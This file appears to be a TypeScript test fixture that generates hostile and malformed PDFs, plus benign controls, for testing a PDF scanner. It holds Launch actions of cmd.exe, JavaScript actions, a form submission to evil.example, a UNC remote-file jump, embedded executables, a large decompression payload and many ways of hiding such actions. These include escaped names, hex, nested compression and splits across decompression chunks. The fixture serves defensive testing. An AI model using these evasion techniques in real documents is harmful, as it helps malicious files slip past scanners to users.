/** PDFs that run, launch, send or carry something, hidden in all known ways, and PDFs that are only unusual. */
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { jpegFile, pdfFile } from './prescription-files.ts';

type Files = Readonly<Record<string, Buffer>>;

/** Writes a PDF of one page, with an additional entry in its catalogue and one in its page. */
function written(catalog: string, { page = '', extra = Buffer.alloc(0) }: { page?: string; extra?: Buffer } = {}): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} >>`,
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.concat([Buffer.from(`%PDF-1.7\n${body}`), extra, Buffer.from('trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n')]);
}

function packed(filter: string, content: Buffer, more = ''): Buffer {
  const head = `6 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} ${more} /Length ${content.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream\nendobj\n')]);
}

const open = (action: string) => `/OpenAction << ${action} >>`;
const annotation = (words: string) => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 50 50] ${words} >>]` });

const script = '/S /JavaScript /JS (app.alert(1))';
const launch = '/S /Launch /F (cmd.exe)';

const catalogues: Readonly<Record<string, string>> = {
  'a script when it opens': open(script),
  'a script in hexadecimal': open('/S /JavaScript /JS <6170702e616c657274283129>'),
  'a script under an escaped name': open('/S /J#61vaScript /J#53 (app.alert(1))'),
  'a script under a name all escaped': open('/S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (app.alert(1))'),
  'a script in the tree of names': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>',
  'a script when it closes': `/AA << /WC << ${script} >> >>`,
  'a script after another action': open(`/S /Named /N /NextPage /Next << ${script} >>`),
  'a program': open(launch),
  'a program under an escaped name': open('/S /L#61unch /F (cmd.exe)'),
  'a program with its arguments': open('/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>'),
  'a form that is sent away': open('/S /SubmitForm /F (https://evil.example/)'),
  'data that are read in': open('/S /ImportData /F (a.fdf)'),
  'another file that opens': open('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]'),
  'an embedded file that opens': open('/S /GoToE /T << /R /C /N (a) >>'),
  'a form in XFA': '/AcroForm << /XFA (x) /Fields [] >>',
  'a form in escaped XFA': '/AcroForm << /X#46A (x) /Fields [] >>',
  'an embedded file': '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>',
};

const annotations: Readonly<Record<string, string>> = {
  'a script under a link': `/Subtype /Link /A << ${script} >>`,
  'a program under a link': `/Subtype /Link /A << ${launch} >>`,
  'a script under the mouse': `/Subtype /Widget /FT /Btn /T (a) /AA << /E << ${script} >> >>`,
  'rich media': '/Subtype /RichMedia /RichMediaContent << >>',
  'an attached file': '/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>',
  'a film': '/Subtype /Movie /Movie << /F (a.avi) >>',
  'a screen': '/Subtype /Screen',
};

const hidden = (words: string) => Buffer.from(`7 0 << ${words} >>`);
const flate = '/Filter /FlateDecode';
/** The content is unpacked in pieces of 64 KiB, the first of which ends between the two parts. */
const cutBetween = (first: string, second: string) => {
  const words = hidden(first + second);
  const before = words.indexOf(first + second) + first.length;
  return Buffer.from(words.toString().replace('<<', `<<${' '.repeat(64 * 1024 - before)}`));
};

function packedScripts(): Files {
  const hex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
  const inner = deflateSync(hidden(launch));
  const objects: Readonly<Record<string, Buffer>> = {
    'a script in packed objects': packed(flate, deflateSync(hidden(script))),
    'a program in packed objects': packed(flate, inner),
    'a program in packed objects under a short name': packed('/Filter /Fl', inner),
    'a program in objects not packed': packed('', hidden(launch)),
    'a program in objects packed twice': packed('/Filter [/FlateDecode /FlateDecode]', deflateSync(inner)),
    'a program in packed objects in hexadecimal': packed('/Filter [/ASCIIHexDecode /FlateDecode]', hex(inner)),
    'a program in objects in hexadecimal': packed('/Filter /ASCIIHexDecode', hex(hidden(launch))),
    'a program in objects under an escaped filter': packed('/Filter /ASCIIHex#44ecode', hex(hidden(launch))),
    'a program in objects whose filter stands elsewhere': packed('/Filter 8 0 R', hex(hidden(launch))),
    'a program in objects whose filter stands elsewhere, behind a comment': packed('/Filter %\n 8 0 R', hex(hidden(launch))),
    'a program in packed objects behind a text with a stream': packed(`/X (stream\nabc endstream) ${flate}`, inner),
    'a program in packed objects behind a text in brackets': packed(`/X (a\\)(>> stream\nendstream)) ${flate}`, inner),
    'a program in packed objects behind a comment': packed(`%>> stream\n%endstream\n${flate}`, inner),
    'a program in packed objects, named over two pieces': packed(flate, deflateSync(cutBetween('/S /La', 'unch /F (cmd.exe)'))),
    'a program in packed objects, escaped over two pieces': packed(
      flate,
      deflateSync(cutBetween('/S /Launc#6', '8 /F (cmd.exe)')),
    ),
    'a program in packed objects that name no type': Buffer.from(
      packed(flate, inner).toString('latin1').replace('/Type /ObjStm', ''),
      'latin1',
    ),
    'a program in packed objects that seem to end before it': packed(
      flate,
      deflateSync(Buffer.concat([Buffer.from('% endstream endobj\n'), hidden(launch)]), { level: 0 }),
    ),
    'a program in packed objects that break off behind it': packed(flate, inner.subarray(0, -4)),
    'a program in objects with a predictor that stands elsewhere': packed(flate, inner, '/DecodeParms 8 0 R'),
    'a program in objects with a predictor': packed(flate, deflateSync(hidden(launch)), '/DecodeParms << /Predictor 12 >>'),
  };
  return Object.fromEntries(Object.entries(objects).map(([name, extra]) => [name, written('/OpenAction 7 0 R', { extra })]));
}

async function encrypted(version: '1.3' | '1.4' | '1.7' | '1.7ext3', password: string): Promise<Buffer> {
  const doc = new PDFDocument({ pdfVersion: version, userPassword: password, ownerPassword: 'owner' });
  doc.text('Rp.').end();
  return Buffer.concat(await doc.toArray());
}

async function broken(pdf: Buffer): Promise<Files> {
  const update = Buffer.from(
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${open(script)} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
  );
  const loop = '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n';
  return {
    'a script in a later version of it': Buffer.concat([pdf, update]),
    'a script in a later version of one by hand': Buffer.concat([written(''), update]),
    'of 51 pages': await pdfFile({ pages: 51 }),
    'whose table names itself': Buffer.from(loop),
    'whose pages name themselves': Buffer.from(
      written('').toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'),
      'latin1',
    ),
    'that ends after its first line': Buffer.from('%PDF-1.7\n'),
    'of nothing but one letter': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100_000, 'x')]),
    'encrypted in RC4 of 40 bits': await encrypted('1.3', 'secret'),
    'encrypted in RC4 of 128 bits': await encrypted('1.4', 'secret'),
    'encrypted in AES of 128 bits': await encrypted('1.7', 'secret'),
    'encrypted in AES of 256 bits': await encrypted('1.7ext3', 'secret'),
    'with 64 MB of packed objects': written('', { extra: packed(flate, deflateSync(Buffer.alloc(65 * 1024 * 1024, ' '))) }),
  };
}

async function good(pdf: Buffer): Promise<Files> {
  const link = annotation('/Subtype /Link /A << /S /URI /URI (https://example.com/) >>');
  return {
    'a PDF of 50 pages': await pdfFile({ pages: 50 }),
    'a PDF with a link': written('', link),
    'a PDF with a picture behind it': Buffer.concat([pdf, await jpegFile()]),
    'a PDF that names scripts in its words': await pdfFile({ change: (doc) => void doc.text('/JavaScript /Launch /JS') }),
    'a PDF with a form to fill in': written('/AcroForm << /Fields [] >>'),
    'a PDF with packed objects': written('', { extra: packed(flate, deflateSync(hidden('/Type /Font'))) }),
    'a PDF with a name that only begins like a script’s': written('', {
      extra: packed(flate, deflateSync(cutBetween('/JS', 'on (a)'))),
    }),
    'a PDF that is encrypted, and opened by everybody': await encrypted('1.7', ''),
    'a PDF that opens at its first page': written('/OpenAction [3 0 R /Fit]'),
  };
}

export async function hostilePdfs(): Promise<Readonly<Record<'good' | 'bad', Files>>> {
  const pdf = await pdfFile();
  const named = (files: Files) => Object.entries(files).map(([name, file]) => [`a PDF: ${name}`, file] as const);
  const made = (words: Readonly<Record<string, string>>, make: (word: string) => Buffer) =>
    Object.fromEntries(Object.entries(words).map(([name, word]) => [name, make(word)]));
  const bad = [
    ...named(made(catalogues, (words) => written(words))),
    ...named(made(annotations, (words) => written('', annotation(words)))),
    ...named(packedScripts()),
    ...named(await broken(pdf)),
  ];
  return { good: await good(pdf), bad: Object.fromEntries(bad) };
}
